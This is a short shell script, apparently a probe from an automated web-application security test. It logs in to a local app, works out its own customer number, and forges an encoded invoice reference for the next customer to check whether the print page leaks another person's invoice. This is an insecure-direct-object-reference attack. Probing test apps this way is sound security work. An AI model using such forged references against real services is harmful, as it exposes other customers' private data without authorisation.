# reaches: asked for a reference of a stranger
#-- the print page takes a reference of one's own making; that there is no such invoice ends it
curl -s -c /tmp/jar -o /dev/null http://app:8080/login -d name=tester \
    --data-urlencode "password=$(cat /home/agent/password.txt)"
own=$(curl -s -b /tmp/jar http://app:8080/ | grep -o 'Customer number [0-9]*' | grep -o '[0-9]*$')
ref=$(printf '%s/999' $((own + 1)) | base64 | tr '+/' '-_')
curl -s -b /tmp/jar "http://app:8080/print?ref=$ref"
echo none
